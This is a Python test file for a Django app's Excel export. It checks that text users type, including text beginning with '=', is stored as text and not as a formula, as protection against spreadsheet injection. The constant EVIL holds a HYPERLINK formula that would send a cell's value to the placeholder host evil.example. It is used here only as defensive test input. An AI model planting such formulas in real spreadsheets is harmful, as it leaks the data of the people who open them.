"""Excel exports never turn text someone typed into a formula (CSV/Excel injection)."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from jinyuan.lists import xlsx_response
from tenants.models import Signboard

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'


def cells(response):
    return [c for row in load_workbook(BytesIO(response.content)).active.iter_rows() for c in row]


def test_plain_values_keep_their_types():
    response = xlsx_response("t", [("A", lambda v: v)], ["文本", 42, "-3", "+86 771"])
    assert [(c.value, c.data_type) for c in cells(response)] == [
        ("A", "s"),
        ("文本", "s"),
        (42, "n"),
        ("-3", "s"),
        ("+86 771", "s"),
    ]


def test_text_starting_with_equals_is_written_as_text():
    response = xlsx_response("t", [("A", lambda v: v)], ["=1+1", EVIL])
    assert [c.data_type for c in cells(response)] == ["s", "s", "s"]


@pytest.mark.django_db
def test_signboard_text_from_the_portal_is_not_a_formula_in_the_desk_export(client_for, tenant_a_admin, desk, building):
    response = client_for(tenant_a_admin).post(
        reverse("portal:signboard_new"), {"building": building.pk, "position": "lobby", "text": EVIL[:60]}
    )
    assert response.status_code == 302
    assert Signboard.objects.filter(text=EVIL[:60]).exists()
    export = client_for(desk).get(reverse("desk:signboard_list"), {"export": "xlsx"})
    assert export.status_code == 200
    assert [c.coordinate for c in cells(export) if c.data_type == "f"] == []
